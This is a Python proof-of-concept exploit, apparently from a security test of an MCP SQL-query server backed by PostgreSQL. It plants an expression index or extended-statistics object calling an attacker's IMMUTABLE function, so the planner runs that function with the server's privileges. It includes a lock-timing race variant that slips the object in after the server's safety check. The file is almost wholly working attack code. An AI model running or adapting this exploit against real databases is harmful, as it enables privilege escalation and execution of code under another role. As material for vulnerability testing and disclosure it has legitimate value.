"""Expressions PostgreSQL's planner constant-folds when it opens a relation: an expression
index's expressions (relcache, RelationGetIndexExpressions) and an extended statistics object's
expressions (get_relation_statistics). An IMMUTABLE attacker function with a constant argument
there runs, as the server's role, for any read of the attacker's table that is planned.
Usage: planner_exprs.py [reader|postgres] [index|stats] [static|after]
  static: the object exists before the server first sees the query
  race  : created while the server's statement waits on another attacker index (t2_a, held by
          REINDEX in an open transaction), after the guard's check; the planner opens t3 later
  after : created after a first clean call (CREATE INDEX takes SHARE, CREATE STATISTICS SHARE
          UPDATE EXCLUSIVE: neither waits for the server's ACCESS SHARE)"""
import asyncio
import json
import sys

import asyncpg
from common import DSN, as_role, tool
from inherit_check import SETUP as INHERIT_SETUP
from mcpclient import connect

SETUP = INHERIT_SETUP + r"""
DROP TABLE IF EXISTS atk.t3 CASCADE;
CREATE TABLE atk.t3 (a int); INSERT INTO atk.t3 SELECT g FROM generate_series(1, 10) g;
GRANT SELECT ON atk.t3 TO PUBLIC;
"""
PLANT = {
    "index": "CREATE INDEX t3_evil ON atk.t3 ((atk.evil_imm(0) AND a > 0))",
    "stats": "CREATE STATISTICS atk.t3_evil ON (atk.evil_imm(0) OR a > 0), a FROM atk.t3",
}

async def main(role: str, kind: str, when: str) -> None:
    a = await asyncpg.connect(as_role("attacker")); await a.execute(SETUP)
    try:
        if when == "static":
            await a.execute(PLANT[kind])
        async with connect(DSN if role == "postgres" else as_role(role)) as c:
            ok, body = await tool(c, "execute_query", sql="SELECT a FROM atk.t3 WHERE a = 1")
            print("first call:", ok, json.dumps(body.get("rows", body.get("error")))[:300])
            if when == "race":
                import time
                b = await asyncpg.connect(as_role("attacker"))
                await b.execute("BEGIN; REINDEX INDEX atk.t2_a")
                sql = "SELECT t3.a FROM atk.t2 JOIN atk.t3 USING (a) WHERE t3.a = 3"
                call = asyncio.create_task(tool(c, "execute_query", sql=sql))
                waiter = None; t0 = time.monotonic()
                while not waiter and time.monotonic() - t0 < 10:
                    waiter = await a.fetchval("SELECT pid FROM pg_locks WHERE relation = 'atk.t2_a'::regclass AND NOT granted")
                    await asyncio.sleep(0.01)
                print("a backend waits on atk.t2_a (pg_locks, as the attacker):", waiter)
                await a.execute(PLANT[kind])
                print("planted:", PLANT[kind])
                await b.execute("COMMIT"); await b.close()
                ok, body = await call
                print("raced call:", ok, json.dumps(body.get("rows", body.get("error")))[:300])
            if when == "after":
                await a.execute(PLANT[kind])
                ok, body = await tool(c, "execute_query", sql="SELECT a FROM atk.t3 WHERE a = 2")
                print("after planting:", ok, json.dumps(body.get("rows", body.get("error")))[:300])
    finally:
        await a.execute("DROP INDEX IF EXISTS atk.t3_evil; DROP STATISTICS IF EXISTS atk.t3_evil"); await a.close()

if __name__ == "__main__":
    asyncio.run(main(*(sys.argv[1:4] + ["reader", "index", "static"][len(sys.argv) - 1:])))
